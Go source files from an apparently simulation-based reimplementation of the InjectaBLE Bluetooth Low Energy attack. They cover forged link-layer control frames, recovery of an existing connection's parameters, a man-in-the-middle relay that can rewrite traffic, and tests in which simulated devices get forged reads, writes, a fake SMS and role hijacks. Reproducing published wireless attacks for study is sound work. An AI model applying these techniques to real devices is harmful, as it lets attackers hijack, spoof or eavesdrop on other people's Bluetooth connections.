		Payload: l2capFrame(4, []byte{byte(att.OpReadReq), byte(handle), byte(handle >> 8)}),
	}
}

// ForgeTerminateInd builds the scenario-B frame: LL_TERMINATE_IND expels
// the slave from the connection while the master stays.
func ForgeTerminateInd() pdu.DataPDU {
	return pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
		Payload: pdu.MarshalControl(pdu.TerminateInd{ErrorCode: pdu.ErrCodeRemoteUserTerminated}),
	}
}

// ForgeConnectionUpdate builds the scenario-C/D frame: a forged
// LL_CONNECTION_UPDATE_IND that moves the slave onto attacker-chosen
// timing at the given instant while the legitimate master keeps the old
// schedule.
func ForgeConnectionUpdate(winSize uint8, winOffset, interval, latency, timeout, instant uint16) pdu.DataPDU {
	return pdu.DataPDU{
		Header: pdu.DataHeader{LLID: pdu.LLIDControl},
		Payload: pdu.MarshalControl(pdu.ConnectionUpdateInd{
			WinSize:   winSize,
			WinOffset: winOffset,
			Interval:  interval,
			Latency:   latency,
			Timeout:   timeout,
			Instant:   instant,
		}),
	}
}

// ForgeChannelMapUpdate builds a forged LL_CHANNEL_MAP_IND.
func ForgeChannelMapUpdate(m ble.ChannelMap, instant uint16) pdu.DataPDU {
	return pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
		Payload: pdu.MarshalControl(pdu.ChannelMapInd{ChannelMap: m, Instant: instant}),
	}
}
