package injectable

import (
	"fmt"
	"sort"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Recovery synchronises with an *already established* connection whose
// CONNECT_REQ the attacker never saw — the harder setting of paper §II:
// "an attacker may be able to retrieve the parameters of an already
// established connection" (Ryan [19], refined by Cauquil [8]). Stages:
//
//  1. Access-address detection: dwell on data channels in promiscuous
//     mode until the same AA is seen repeatedly.
//  2. CRCInit recovery: run the CRC LFSR backwards over captured PDUs
//     (crc.RecoverInit) and majority-vote the result.
//  3. Channel-map inference: dwell on every data channel and mark the
//     ones carrying the connection's AA (skipped under AssumeFullMap).
//  4. Hop-interval measurement: on a fixed channel, CSA#1 revisits every
//     37 events, so the revisit period is 37 × interval × 1.25 ms.
//  5. Hop-increment derivation: measure the event distance between
//     channel 0 and channel 1; it equals increment⁻¹ mod 37, which is
//     unique for every legal increment.
//
// The result is a ConnState ready for Sniffer.FollowKnownConnection —
// and therefore for injection.
type Recovery struct {
	stack *link.Stack
	cfg   RecoveryConfig

	// OnStage observes progress ("detect-aa", "crc-init", ...).
	OnStage func(stage string)

	done func(*ConnState, error)

	aaCounts   map[uint32]int
	aa         uint32
	crcVotes   map[uint32]int
	crcInit    uint32
	channelMap ble.ChannelMap
	interval   uint16

	epoch uint64
}

// RecoveryConfig tunes the recovery process.
type RecoveryConfig struct {
	// AAThreshold is how many sightings confirm an access address (≥2;
	// default 3).
	AAThreshold int
	// CRCThreshold is how many matching reversed inits confirm CRCInit
	// (default 3).
	CRCThreshold int
	// ChannelDwell is the per-channel listen time for AA detection and
	// channel mapping. It must exceed the worst-case revisit period
	// (37 × interval); default 2 s.
	ChannelDwell sim.Duration
	// AssumeFullMap skips channel mapping, assuming all 37 channels are
	// used (most real masters; the paper's experiments too).
	AssumeFullMap bool
	// IntervalSamples is how many revisit gaps to measure (default 3).
	IntervalSamples int
}

func (c *RecoveryConfig) applyDefaults() {
	if c.AAThreshold == 0 {
		c.AAThreshold = 3
	}
	if c.CRCThreshold == 0 {
		c.CRCThreshold = 3
	}
	if c.ChannelDwell == 0 {
		c.ChannelDwell = 2 * sim.Second
	}
	if c.IntervalSamples == 0 {
		c.IntervalSamples = 3
	}
}

// NewRecovery builds a recovery engine on the attacker's stack.
func NewRecovery(stack *link.Stack, cfg RecoveryConfig) *Recovery {
	cfg.applyDefaults()
	return &Recovery{
		stack:    stack,
		cfg:      cfg,
		aaCounts: make(map[uint32]int),
		crcVotes: make(map[uint32]int),
	}
}

// Run performs all stages and reports the synchronised state.
func (r *Recovery) Run(done func(*ConnState, error)) {
	r.done = done
	r.stage("detect-aa")
	r.detectAA(0)
}

func (r *Recovery) stage(name string) {
	sim.Emit(r.stack.Tracer, r.stack.Sched.Now(), r.stack.Name, "recovery-stage", func() []sim.Field {
		return []sim.Field{sim.F("stage", name)}
	})
	if r.OnStage != nil {
		r.OnStage(name)
	}
}

func (r *Recovery) fail(err error) {
	r.stack.Radio.OnFrame = nil
	r.stack.Radio.StopListening()
	if r.done != nil {
		r.done(nil, err)
	}
}

// --- stage 1: access address ----------------------------------------------

func (r *Recovery) detectAA(chIdx int) {
	if chIdx >= 37*3 {
		r.fail(fmt.Errorf("injectable: no connection found on any data channel"))
		return
	}
	radio := r.stack.Radio
	radio.SetPromiscuous(true)
	radio.SetChannel(phy.Channel(chIdx % 37))
	radio.OnFrame = func(rx medium.Received) {
		aa := rx.Frame.AccessAddress
		if aa == uint32(ble.AdvertisingAccessAddress) {
			radio.StartListening()
			return
		}
		r.aaCounts[aa]++
		if r.aaCounts[aa] >= r.cfg.AAThreshold {
			r.aa = aa
			r.startCRCInit()
			return
		}
		radio.StartListening()
	}
	radio.StartListening()
	r.epoch++
	epoch := r.epoch
	r.stack.Sched.After(r.cfg.ChannelDwell, r.stack.Name+":aa-dwell", func() {
		if r.epoch != epoch || r.aa != 0 {
			return
		}
		radio.StopListening()
		r.detectAA(chIdx + 1)
	})
}

// --- stage 2: CRCInit -------------------------------------------------------

func (r *Recovery) startCRCInit() {
	r.stage("crc-init")
	r.epoch++
	radio := r.stack.Radio
	radio.StopListening()
	radio.SetPromiscuous(false)
	radio.SetAccessAddress(r.aa)
	radio.OnFrame = func(rx medium.Received) {
		init := crc.RecoverInit(rx.Frame.CRC, rx.Frame.PDU)
		r.crcVotes[init]++
		if r.crcVotes[init] >= r.cfg.CRCThreshold {
			r.crcInit = init
			r.startChannelMap()
			return
		}
		radio.StartListening()
	}
	radio.StartListening()
}

// --- stage 3: channel map ---------------------------------------------------

func (r *Recovery) startChannelMap() {
	r.stage("channel-map")
	if r.cfg.AssumeFullMap {
		r.channelMap = ble.AllChannels
		r.startInterval()
		return
	}
	r.channelMap = 0
	r.probeChannel(0)
}

func (r *Recovery) probeChannel(ch int) {
	if ch >= 37 {
		if !r.channelMap.Valid() {
			r.fail(fmt.Errorf("injectable: channel map inference found %d channels", r.channelMap.CountUsed()))
			return
		}
		r.startInterval()
		return
	}
	radio := r.stack.Radio
	radio.StopListening()
	radio.SetChannel(phy.Channel(ch))
	heard := false
	radio.OnFrame = func(rx medium.Received) {
		heard = true
		// One frame is enough; wait out the dwell to keep timing simple.
	}
	radio.StartListening()
	r.epoch++
	epoch := r.epoch
	r.stack.Sched.After(r.cfg.ChannelDwell, r.stack.Name+":map-dwell", func() {
		if r.epoch != epoch {
			return
		}
		if heard {
			r.channelMap |= 1 << ch
		}
		r.probeChannel(ch + 1)
	})
}

// --- stage 4: hop interval ---------------------------------------------------

func (r *Recovery) startInterval() {
	r.stage("hop-interval")
	radio := r.stack.Radio
	radio.StopListening()
	probe := r.firstUsed()
	radio.SetChannel(phy.Channel(probe))

	var anchors []sim.Time
	var lastFrame sim.Time
	radio.OnFrame = func(rx medium.Received) {
		// Cluster master+slave frames of one event: a new anchor is a
		// frame more than 10 ms after the previous frame.
		if lastFrame == 0 || rx.StartAt.Sub(lastFrame) > 10*sim.Millisecond {
			anchors = append(anchors, rx.StartAt)
		}
		lastFrame = rx.StartAt
		if len(anchors) >= r.cfg.IntervalSamples+1 {
			r.deriveInterval(anchors)
			return
		}
		radio.StartListening()
	}
	radio.StartListening()
}

func (r *Recovery) deriveInterval(anchors []sim.Time) {
	gaps := make([]int64, 0, len(anchors)-1)
	for i := 1; i < len(anchors); i++ {
		gaps = append(gaps, int64(anchors[i].Sub(anchors[i-1])))
	}
	sort.Slice(gaps, func(i, j int) bool { return gaps[i] < gaps[j] })
	// The smallest gap is the most likely single revisit period
	// (37 × interval × 1.25 ms with CSA#1 and a full map).
	period := gaps[0]
	unit := int64(ble.ConnUnit) * 37
	interval := (period + unit/2) / unit
	if interval < 6 || interval > 3200 {
		r.fail(fmt.Errorf("injectable: implausible hop interval %d", interval))
		return
	}
	r.interval = uint16(interval)
	r.startIncrement()
}

// --- stage 5: hop increment --------------------------------------------------

// hopInverse maps increment⁻¹ mod 37 → increment, for the legal range
// 5..16 (all inverses are distinct because 37 is prime).
var hopInverse = func() map[int]uint8 {
	m := make(map[int]uint8)
	for inc := 5; inc <= 16; inc++ {
		for k := 1; k < 37; k++ {
			if k*inc%37 == 1 {
				m[k] = uint8(inc)
			}
		}
	}
	return m
}()

func (r *Recovery) startIncrement() {
	r.stage("hop-increment")
	radio := r.stack.Radio
	radio.StopListening()

	chA, chB := uint8(0), uint8(1)
	intervalD := sim.Duration(r.interval) * ble.ConnUnit

	var tA sim.Time
	var lastFrame sim.Time
	radio.SetChannel(phy.Channel(chA))
	radio.OnFrame = func(rx medium.Received) {
		if tA == 0 {
			if lastFrame != 0 && rx.StartAt.Sub(lastFrame) <= 10*sim.Millisecond {
				lastFrame = rx.StartAt
				radio.StartListening()
				return // slave frame of the same event
			}
			tA = rx.StartAt
			radio.StopListening()
			radio.SetChannel(phy.Channel(chB))
			radio.OnFrame = func(rx2 medium.Received) {
				r.deriveIncrement(tA, rx2.StartAt, intervalD)
			}
			radio.StartListening()
			return
		}
		lastFrame = rx.StartAt
	}
	radio.StartListening()
}

func (r *Recovery) deriveIncrement(tA, tB sim.Time, interval sim.Duration) {
	k := int((tB.Sub(tA) + interval/2) / interval)
	k %= 37
	inc, ok := hopInverse[k]
	if !ok {
		r.fail(fmt.Errorf("injectable: event distance %d matches no hop increment", k))
		return
	}
	// Align the event counter: at tB the unmapped channel was 1, so
	// (e+1)·inc ≡ 1 (mod 37) — e+1 is the inverse of inc.
	var eB uint16
	for kk := 1; kk < 37; kk++ {
		if kk*int(inc)%37 == 1 {
			eB = uint16(kk - 1)
			break
		}
	}
	params := link.ConnParams{
		AccessAddress: ble.AccessAddress(r.aa),
		CRCInit:       r.crcInit,
		Interval:      r.interval,
		Timeout:       uint16(6 * r.interval / 8), // conservative guess
		ChannelMap:    r.channelMap,
		Hop:           inc,
		// The master's SCA claim is in the CONNECT_REQ we never saw. The
		// worst case *for the attacker* is a small widening (paper §V-C),
		// so assume the most accurate class: injecting slightly late
		// inside the window beats transmitting before it opens.
		MasterSCA: ble.SCA0to20ppm,
	}
	if params.Timeout < 10 {
		params.Timeout = 10
	}
	st, err := newConnState(params, ble.Address{}, ble.Address{})
	if err != nil {
		r.fail(err)
		return
	}
	st.LastAnchor = tB
	st.AnchorKnown = true
	st.EventCount = eB + 1
	r.stack.Radio.OnFrame = nil
	r.stack.Radio.StopListening()
	r.stage("synchronised")
	if r.done != nil {
		r.done(st, nil)
	}
}

// firstUsed returns the lowest used channel.
func (r *Recovery) firstUsed() uint8 {
	for ch := uint8(0); ch < 37; ch++ {
		if r.channelMap.Used(ch) {
			return ch
		}
	}
	return 0
}

// Result captures the recovered parameters for reporting.
type Result struct {
	AccessAddress ble.AccessAddress
	CRCInit       uint32
	ChannelMap    ble.ChannelMap
	Interval      uint16
	Hop           uint8
}
