package injectable

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/csa"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// legSeq is the SN/NESN engine of one MITM leg — the same acknowledgement
// algorithm as a full Link Layer, reduced to its state (paper eq. 6
// machinery).
type legSeq struct {
	sn, nesn bool
	queue    []pdu.DataPDU
	inFlight *pdu.DataPDU
}

// onRx folds a received header in; newData reports a fresh PDU to consume.
func (l *legSeq) onRx(h pdu.DataHeader) (newData bool) {
	if h.NESN != l.sn {
		l.sn = !l.sn
		l.inFlight = nil
	}
	if h.SN == l.nesn {
		l.nesn = !l.nesn
		newData = true
	}
	return newData
}

// next picks the PDU for the next transmission opportunity.
func (l *legSeq) next() pdu.DataPDU {
	var p pdu.DataPDU
	if l.inFlight != nil {
		p = *l.inFlight
	} else if len(l.queue) > 0 {
		p = l.queue[0]
		l.queue = l.queue[1:]
		if len(p.Payload) > 0 {
			cp := p
			l.inFlight = &cp
		}
	} else {
		p = pdu.Empty(false, false)
	}
	p.Header.SN = l.sn
	p.Header.NESN = l.nesn
	p.Header.MD = len(l.queue) > 0
	return p
}

// enqueue adds a PDU for transmission toward this leg's peer.
func (l *legSeq) enqueue(p pdu.DataPDU) { l.queue = append(l.queue, p) }

// MITMConfig tunes the man-in-the-middle engine.
type MITMConfig struct {
	// OnMasterToSlave intercepts PDUs flowing master→slave. Return the
	// (possibly mutated) PDU and false to drop it. Nil = forward as is.
	OnMasterToSlave func(p pdu.DataPDU) (pdu.DataPDU, bool)
	// OnSlaveToMaster intercepts the reverse direction.
	OnSlaveToMaster func(p pdu.DataPDU) (pdu.DataPDU, bool)
	// MaxMissedEvents tears the session down after this many consecutive
	// silent master-leg events (0 = 32).
	MaxMissedEvents int
}

// MITM relays and rewrites traffic between the legitimate master (still on
// the old connection timing) and the legitimate slave (moved onto the
// forged schedule) — paper §VI-D, Fig. 7. One radio serves both legs: the
// forged WinOffset staggers the two event schedules so the exchanges never
// overlap, exactly as the paper's single nRF52840 dongle does it.
type MITM struct {
	stack *link.Stack
	cfg   MITMConfig

	params   link.ConnParams // shared AA/CRCInit/map/hop; timing = old
	delta    sim.Duration    // slave-leg anchor offset from master-leg
	selector csa.Selector

	legM legSeq // we act as slave toward the master
	legS legSeq // we act as master toward the slave

	event   uint16
	anchorM sim.Time
	missedM int
	missedS int
	closed  bool
	epoch   uint64

	// Forwarded counts relayed PDUs per direction.
	ForwardedM2S, ForwardedS2M int

	// Report is the injection report of the forged CONNECTION_UPDATE that
	// established the session.
	Report Report

	// OnClosed fires once when the session ends.
	OnClosed func(reason string)
	// OnForward observes every relayed PDU (after mutation).
	OnForward func(fromMaster bool, p pdu.DataPDU)
}

// newMITM builds the engine; use Attacker.ManInTheMiddle.
func newMITM(stack *link.Stack, st *ConnState, forged pdu.ConnectionUpdateInd, cfg MITMConfig) (*MITM, error) {
	if cfg.MaxMissedEvents == 0 {
		cfg.MaxMissedEvents = 32
	}
	if forged.Interval != st.Params.Interval {
		return nil, fmt.Errorf("injectable: MITM requires the forged interval to equal the old one")
	}
	sel, err := newSelector(st.Params)
	if err != nil {
		return nil, err
	}
	m := &MITM{
		stack:    stack,
		cfg:      cfg,
		params:   st.Params,
		delta:    ble.ConnUnit + sim.Duration(forged.WinOffset)*ble.ConnUnit,
		selector: sel,
		event:    forged.Instant,
		anchorM:  st.LastAnchor.Add(sim.Duration(st.MissedEvents) * st.IntervalDuration()),
	}
	// Leg seeds: toward the master we continue the slave's counters;
	// toward the slave we continue the master's (both sniffed).
	m.legM.sn, m.legM.nesn = st.SlaveSN, st.SlaveNESN
	m.legS.sn, m.legS.nesn = st.SlaveNESN, !st.SlaveSN
	return m, nil
}

// start arms both legs for the instant event.
func (m *MITM) start() {
	m.scheduleMasterLeg()
}

// Closed reports whether the session ended.
func (m *MITM) Closed() bool { return m.closed }

// close tears the session down once.
func (m *MITM) close(reason string) {
	if m.closed {
		return
	}
	m.closed = true
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.OnTxDone = nil
	m.stack.Radio.StopListening()
	sim.Emit(m.stack.Tracer, m.stack.Sched.Now(), m.stack.Name, "mitm-closed", func() []sim.Field {
		return []sim.Field{sim.F("reason", reason)}
	})
	if m.OnClosed != nil {
		m.OnClosed(reason)
	}
}

// interval returns the shared connection interval.
func (m *MITM) interval() sim.Duration { return m.params.IntervalDuration() }

// widening is the master-leg receive window half-width.
func (m *MITM) widening() sim.Duration {
	span := sim.Duration(m.missedM+1) * m.interval()
	return link.WindowWidening(m.params.MasterSCA.WorstPPM(), m.stack.Clock.RatedPPM(), span) +
		10*sim.Microsecond
}

// --- master leg (we are the slave) ----------------------------------------

func (m *MITM) scheduleMasterLeg() {
	if m.closed {
		return
	}
	span := sim.Duration(m.missedM+1) * m.interval()
	w := m.widening()
	m.epoch++
	epoch := m.epoch
	ev := m.stack.Clock.AtLocalOffset(m.anchorM, span-w, m.stack.Name+":mitm-mleg-open", func() {
		m.masterLegOpen(epoch, 2*w)
	})
	_ = ev
}

func (m *MITM) masterLegOpen(epoch uint64, width sim.Duration) {
	if m.closed || m.epoch != epoch {
		return
	}
	ch := m.selector.ChannelFor(m.event)
	m.stack.Radio.SetChannel(phy.Channel(ch))
	m.stack.Radio.SetAccessAddress(uint32(m.params.AccessAddress))
	m.stack.Radio.OnFrame = m.masterLegFrame
	m.stack.Radio.StartListening()
	m.stack.Sched.After(width, m.stack.Name+":mitm-mleg-close", func() {
		m.masterLegClose(epoch)
	})
}

func (m *MITM) masterLegClose(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	if m.stack.Radio.Locked() || m.stack.Radio.Acquiring() {
		m.stack.Sched.After(50*sim.Microsecond, m.stack.Name+":mitm-mleg-close", func() {
			m.masterLegClose(epoch)
		})
		return
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.missedM++
	if m.missedM >= m.cfg.MaxMissedEvents {
		m.close("master vanished")
		return
	}
	m.runSlaveLeg()
}

// masterLegFrame handles the legitimate master's packet.
func (m *MITM) masterLegFrame(rx medium.Received) {
	if m.closed {
		return
	}
	m.epoch++
	m.anchorM = rx.StartAt
	m.missedM = 0

	terminate := false
	if crc.Check(m.params.CRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			if m.legM.onRx(p.Header) && len(p.Payload) > 0 {
				terminate = m.relay(true, p)
			}
		}
	}

	resp := m.legM.next()
	frame := m.frame(resp)
	m.stack.Clock.AtLocalOffset(rx.EndAt, ble.TIFS, m.stack.Name+":mitm-mleg-rsp", func() {
		if m.closed {
			return
		}
		m.stack.Radio.OnTxDone = func() {
			m.stack.Radio.OnTxDone = nil
			if terminate {
				m.close("master terminated the connection")
				return
			}
			m.runSlaveLeg()
		}
		m.stack.Radio.OnFrame = nil
		m.stack.Radio.Transmit(frame)
	})
}

// --- slave leg (we are the master) -----------------------------------------

// runSlaveLeg transmits toward the slave delta after the master-leg
// anchor of the current event.
func (m *MITM) runSlaveLeg() {
	if m.closed {
		return
	}
	base := m.anchorM.Add(sim.Duration(m.missedM) * m.interval())
	m.epoch++
	epoch := m.epoch
	m.stack.Clock.AtLocalOffset(base, m.delta, m.stack.Name+":mitm-sleg-anchor", func() {
		m.slaveLegAnchor(epoch)
	})
}

func (m *MITM) slaveLegAnchor(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	ch := m.selector.ChannelFor(m.event)
	m.stack.Radio.SetChannel(phy.Channel(ch))
	m.stack.Radio.SetAccessAddress(uint32(m.params.AccessAddress))
	frame := m.frame(m.legS.next())
	m.stack.Radio.OnTxDone = func() {
		m.stack.Radio.OnTxDone = nil
		if m.closed {
			return
		}
		m.stack.Radio.OnFrame = m.slaveLegFrame
		m.stack.Radio.StartListening()
		deadline := ble.TIFS + phy.LE1M.PreambleAATime() + 60*sim.Microsecond
		m.stack.Sched.After(deadline, m.stack.Name+":mitm-sleg-timeout", func() {
			m.slaveLegTimeout(epoch)
		})
	}
	m.stack.Radio.Transmit(frame)
}

func (m *MITM) slaveLegTimeout(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	if m.stack.Radio.Locked() || m.stack.Radio.Acquiring() {
		m.stack.Sched.After(50*sim.Microsecond, m.stack.Name+":mitm-sleg-timeout", func() {
			m.slaveLegTimeout(epoch)
		})
		return
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.missedS++
	if m.missedS >= m.cfg.MaxMissedEvents {
		m.close("slave vanished")
		return
	}
	m.nextEvent()
}

// slaveLegFrame handles the legitimate slave's response.
func (m *MITM) slaveLegFrame(rx medium.Received) {
	if m.closed {
		return
	}
	m.epoch++
	m.missedS = 0
	if crc.Check(m.params.CRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			if m.legS.onRx(p.Header) && len(p.Payload) > 0 {
				if m.relay(false, p) {
					m.close("slave terminated the connection")
					return
				}
			}
		}
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.nextEvent()
}

// nextEvent advances the shared event counter and re-arms the master leg.
func (m *MITM) nextEvent() {
	m.event++
	m.scheduleMasterLeg()
}

// relay pushes a new-data PDU through the mutation hook onto the opposite
// leg. It reports whether the PDU was a termination (which must be
// forwarded and then ends the session).
func (m *MITM) relay(fromMaster bool, p pdu.DataPDU) (terminated bool) {
	out := p
	forward := true
	if fromMaster && m.cfg.OnMasterToSlave != nil {
		out, forward = m.cfg.OnMasterToSlave(p)
	}
	if !fromMaster && m.cfg.OnSlaveToMaster != nil {
		out, forward = m.cfg.OnSlaveToMaster(p)
	}
	if !forward {
		return false
	}
	out.Header.MD = false
	if fromMaster {
		m.legS.enqueue(out)
		m.ForwardedM2S++
	} else {
		m.legM.enqueue(out)
		m.ForwardedS2M++
	}
	if m.OnForward != nil {
		m.OnForward(fromMaster, out)
	}
	if out.IsControl() && len(out.Payload) > 0 && pdu.Opcode(out.Payload[0]) == pdu.OpTerminateInd {
		return true
	}
	return false
}

// frame renders a data PDU onto the connection's AA/CRC.
func (m *MITM) frame(p pdu.DataPDU) medium.Frame {
	raw := p.Marshal()
	return medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(m.params.AccessAddress),
		PDU:           raw,
		CRC:           crc.Compute(m.params.CRCInit, raw),
	}
}

// ManInTheMiddle performs scenario D: a forged CONNECTION_UPDATE splits
// the slave onto a staggered schedule, then the attacker serves both sides
// and relays (and optionally rewrites) every PDU.
func (a *Attacker) ManInTheMiddle(upd UpdateParams, cfg MITMConfig, done func(*MITM, error)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)
	upd.Interval = st0.Params.Interval // engine requires equal intervals

	var forged pdu.ConnectionUpdateInd
	build := func(st *ConnState) pdu.DataPDU {
		forged = pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: update injection failed after %d attempts", r.AttemptCount()))
			return
		}
		a.mitmAtInstant(forged, r, cfg, done)
	})
}

// mitmAtInstant follows until the instant, then starts the dual-leg relay.
func (a *Attacker) mitmAtInstant(forged pdu.ConnectionUpdateInd, r Report, cfg MITMConfig, done func(*MITM, error)) {
	st := a.Sniffer.State()
	proceed := func() {
		a.Sniffer.Stop()
		m, err := newMITM(a.Stack, st, forged, cfg)
		if err != nil {
			done(nil, err)
			return
		}
		m.Report = r
		m.start()
		done(m, nil)
	}
	if st.EventCount == forged.Instant {
		proceed()
		return
	}
	prev := a.Sniffer.OnEventClosed
	a.Sniffer.OnEventClosed = func(s *ConnState) {
		if prev != nil {
			prev(s)
		}
		if s.EventCount == forged.Instant {
			a.Sniffer.OnEventClosed = prev
			proceed()
		}
	}
}
