package injectable

import (
	"bytes"
	"strings"
	"testing"

	"injectable/internal/att"
	"injectable/internal/ble/pdu"
	"injectable/internal/devices"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// attacker builds the full tool on the rig's attacker device.
func (rig *attackRig) newAttacker() *Attacker {
	a := &Attacker{Stack: rig.attacker.Stack, Sniffer: rig.sniffer, Injector: rig.injector}
	return a
}

func TestScenarioAInjectReadExtractsDeviceName(t *testing.T) {
	rig := newAttackRig(t, 20, 36)
	rig.connectAndSync(t)
	a := rig.newAttacker()

	// Handle 3 is the GAP Device Name value in our peripherals.
	nameHandle := rig.bulb.Peripheral.DeviceNameChar().ValueHandle
	var got *ReadReport
	if err := a.InjectRead(nameHandle, func(r ReadReport) { got = &r }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(30 * sim.Second)
	if got == nil || !got.Success {
		t.Fatal("read injection failed")
	}
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	if string(got.Value) != "SMART-BULB" {
		t.Fatalf("extracted %q", got.Value)
	}
}

func TestScenarioAKeyfobRing(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 21})
	fob := devices.NewKeyfob(w.NewDevice(host.DeviceConfig{Name: "fob", Position: phy.Position{X: 0}}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		devices.SmartphoneConfig{})
	atk := w.NewDevice(host.DeviceConfig{Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond})
	a := NewAttacker(atk.Stack, InjectorConfig{})

	a.Sniffer.Start()
	fob.Peripheral.StartAdvertising()
	phone.Connect(fob.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !a.Sniffer.Following() {
		t.Fatal("not following")
	}
	var rep *Report
	if err := a.InjectWrite(fob.AlertHandle(), devices.RingCommand(), func(r Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatal("injection failed")
	}
	if !fob.Ringing {
		t.Fatal("keyfob not ringing")
	}
}

func TestScenarioASmartwatchForgedSMS(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 22})
	watch := devices.NewSmartwatch(w.NewDevice(host.DeviceConfig{Name: "watch", Position: phy.Position{X: 0}}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		devices.SmartphoneConfig{})
	atk := w.NewDevice(host.DeviceConfig{Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond})
	a := NewAttacker(atk.Stack, InjectorConfig{})

	a.Sniffer.Start()
	watch.Peripheral.StartAdvertising()
	phone.Connect(watch.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	var rep *Report
	if err := a.InjectWrite(watch.SMSHandle(), []byte("Transfer 5000 EUR now"), func(r Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatal("injection failed")
	}
	found := false
	for _, msg := range watch.Messages {
		if msg == "Transfer 5000 EUR now" {
			found = true
		}
	}
	if !found {
		t.Fatalf("forged SMS not displayed: %v", watch.Messages)
	}
}

// hackedServer builds the forged profile of §VI-B: Device Name = "Hacked".
func hackedServer() *gatt.Server {
	srv := gatt.NewServer(func([]byte) {})
	srv.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID:       att.UUID16(0x2A00),
			Properties: gatt.PropRead,
			Value:      []byte("Hacked"),
		}},
	})
	return srv
}

func TestScenarioBSlaveHijack(t *testing.T) {
	rig := newAttackRig(t, 23, 36)
	rig.connectAndSync(t)
	a := rig.newAttacker()

	var hijack *SlaveHijack
	var herr error
	if err := a.HijackSlave(hackedServer(), func(h *SlaveHijack, err error) { hijack, herr = h, err }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(30 * sim.Second)
	if herr != nil {
		t.Fatal(herr)
	}
	if hijack == nil {
		t.Fatal("hijack did not settle")
	}
	// The legitimate slave was expelled...
	if rig.bulb.Peripheral.Conn() != nil && !rig.bulb.Peripheral.Conn().Closed() {
		t.Fatal("legitimate slave still in the connection")
	}
	// ...while the master never noticed and still gets responses.
	if !rig.phone.Central.Connected() {
		t.Fatal("master lost the connection — hijack not stealthy")
	}
	rig.w.RunFor(2 * sim.Second)
	if !rig.phone.Central.Connected() {
		t.Fatal("attacker slave did not keep the connection alive")
	}

	// The master reads the Device Name and gets the forged value. One of
	// the phone's periodic reads may have been lost in the hijack window
	// and must first expire via the 30 s ATT transaction timeout.
	rig.w.RunFor(31 * sim.Second)
	var name []byte
	rig.phone.GATT().Read(3, func(v []byte, err error) {
		if err != nil {
			t.Fatal(err)
		}
		name = v
	})
	rig.w.RunFor(2 * sim.Second)
	if string(name) != "Hacked" {
		t.Fatalf("device name = %q, want \"Hacked\"", name)
	}
}

func TestScenarioCMasterHijack(t *testing.T) {
	rig := newAttackRig(t, 24, 36)
	rig.connectAndSync(t)
	a := rig.newAttacker()

	var hijack *MasterHijack
	var herr error
	err := a.HijackMaster(UpdateParams{}, func(h *MasterHijack, err error) { hijack, herr = h, err })
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(60 * sim.Second)
	if herr != nil {
		t.Fatal(herr)
	}
	if hijack == nil {
		t.Fatal("hijack did not settle")
	}
	if hijack.Conn.Closed() {
		t.Fatal("attacker master connection died")
	}
	// The slave is still connected — to the attacker.
	if !rig.bulb.Peripheral.Connected() {
		t.Fatal("slave dropped off")
	}
	// The legitimate master lost its slave (supervision timeout).
	if rig.phone.Central.Connected() {
		t.Fatal("legitimate master still connected — hijack failed")
	}
	// The attacker triggers scenario-A features through the hijacked role.
	done := false
